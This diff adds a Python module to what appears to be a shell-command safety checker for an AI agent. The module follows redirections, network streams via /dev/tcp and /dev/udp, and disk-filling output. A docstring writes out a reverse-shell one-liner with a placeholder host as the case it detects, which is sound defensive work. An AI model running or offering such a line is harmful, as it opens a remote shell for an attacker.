@@ -1,0 +1,146 @@
+# SPDX-License-Identifier: MIT
+"""Where a command reads from and writes to."""
+
+import re
+
+from tibet_nc_agent.safety.assignments import ExpandingWalk
+from tibet_nc_agent.safety.grammar.nodes import Literal, Redirection
+from tibet_nc_agent.safety.marks import plain
+from tibet_nc_agent.safety.paths import resolve
+from tibet_nc_agent.safety.values import FILE, Field, Source, State, Stream, text_stream
+from tibet_nc_agent.safety.verdict import Decision, Family
+from tibet_nc_agent.safety.writes import judge_write
+
+_DESCRIPTOR = re.compile(r"\d+-?|-")
+_OUTPUTS = frozenset([">", ">>", ">|", "&>", "&>>", ">&", "<>"])
+_NETWORK = ("/dev/tcp/", "/dev/udp/")
+
+
+def inputs(
+    walk: ExpandingWalk,
+    redirections: tuple[Redirection, ...],
+    state: State,
+    stdin: Stream | None,
+) -> Stream | None:
+    """Return what the command reads, after its redirections."""
+    for redirection in redirections:
+        if redirection.document is not None:
+            body = redirection.document.body
+            if body is not None:
+                stdin = _stream_of(walk.expander.single(body, state), end="")
+        elif redirection.operator == "<<<":
+            stdin = _stream_of(walk.expander.single(redirection.target, state), end="\n")
+        elif redirection.operator in ("<", "<>", "<&"):
+            stdin = _opened(walk, redirection, state, stdin)
+        elif redirection.operator in (">", ">&", "&>"):
+            stdin = _connected(redirection, state, stdin)
+    return stdin
+
+
+def _connected(redirection: Redirection, state: State, stdin: Stream | None) -> Stream | None:
+    """`sh >& /dev/tcp/host/port 0>&1` reads from the connection that it writes to."""
+    target = redirection.target.parts[0]
+    if isinstance(target, Literal) and target.text.startswith(_NETWORK):
+        state.downloaded.update((f"&{redirection.descriptor or '1'}", "&2"))
+    elif redirection.operator == ">&" and redirection.descriptor == "0":
+        return _duplicated(redirection.target.plain or "", state, stdin)
+    return stdin
+
+
+def _duplicated(descriptor: str, state: State, stdin: Stream | None) -> Stream | None:
+    downloaded = f"&{descriptor.rstrip('-')}" in state.downloaded
+    return Stream(downloaded=True) if downloaded else stdin
+
+
+def _stream_of(field: Field, *, end: str) -> Stream:
+    return text_stream(plain(field.text) + end, downloaded=field.downloaded, decoded=field.decoded)
+
+
+def _opened(
+    walk: ExpandingWalk, redirection: Redirection, state: State, stdin: Stream | None
+) -> Stream | None:
+    fields = walk.expander.fields(redirection.target, state)
+    if not fields:
+        return stdin
+    field = fields[0]
+    if field.stream is not None:
+        if field.stream.downloaded:
+            state.downloaded.add(f"&{redirection.descriptor}")
+        return field.stream
+    if field.text.startswith(_NETWORK):
+        state.downloaded.add(f"&{redirection.descriptor}")
+        return Stream(downloaded=True)
+    if redirection.operator == "<&":
+        return _duplicated(field.text, state, stdin)
+    path = resolve(field.text, state)
+    if path is None:
+        return FILE
+    if plain(path) in state.downloaded:
+        return Stream(downloaded=True)
+    if plain(path) in state.decoded:
+        return Stream(state.files.get(plain(path)), decoded=True)
+    written = state.files.get(plain(path))
+    if written is not None:
+        return text_stream(written)
+    return FILE
+
+
+def outputs(
+    walk: ExpandingWalk,
+    redirections: tuple[Redirection, ...],
+    state: State,
+    output: Stream,
+) -> Stream:
+    """Judge where the output goes, and return what is left for the next command."""
+    for redirection in redirections:
+        if redirection.operator not in _OUTPUTS:
+            continue
+        fields = walk.expander.fields(redirection.target, state)
+        if not fields:
+            continue
+        field = fields[0]
+        if redirection.operator == ">&" and _DESCRIPTOR.fullmatch(field.text):
+            continue
+        if field.stream is not None:
+            continue
+        output = _written(walk, redirection, field, state, output)
+    return output
+
+
+def _written(
+    walk: ExpandingWalk, redirection: Redirection, field: Field, state: State, output: Stream
+) -> Stream:
+    span = (redirection.start, redirection.end)
+    append = redirection.operator in (">>", "&>>", "<>")
+    place = judge_write(walk, field, state, span, "output goes to", append=append)
+    path = plain(place.path)
+    if output.endless and path and not path.startswith("/dev/"):
+        _report_endless(walk, path, span, state)
+    if redirection.descriptor not in ("", "1"):
+        return output
+    remember(state, path, output, append=append)
+    return Stream(source=Source.TEXT, text="") if output.text is not None else Stream()
+
+
+def _report_endless(walk: ExpandingWalk, path: str, span: tuple[int, int], state: State) -> None:
+    reason = f"endless output fills the disk through {path}"
+    walk.report(Decision.NEEDS_APPROVAL, Family.BOMB, reason, span, state)
+
+
+def remember(state: State, path: str, output: Stream, *, append: bool) -> None:
+    """Keep what is written to a file, since the same line may run it."""
+    if not path:
+        return
+    for names, tainted in (
+        (state.downloaded, output.downloaded),
+        (state.decoded, output.decoded),
+    ):
+        if tainted:
+            names.add(path)
+        elif not append:
+            names.discard(path)
+    known = output.known
+    if known is None:
+        state.files.pop(path, None)
+    else:
+        state.files[path] = state.files.get(path, "") + known if append else known
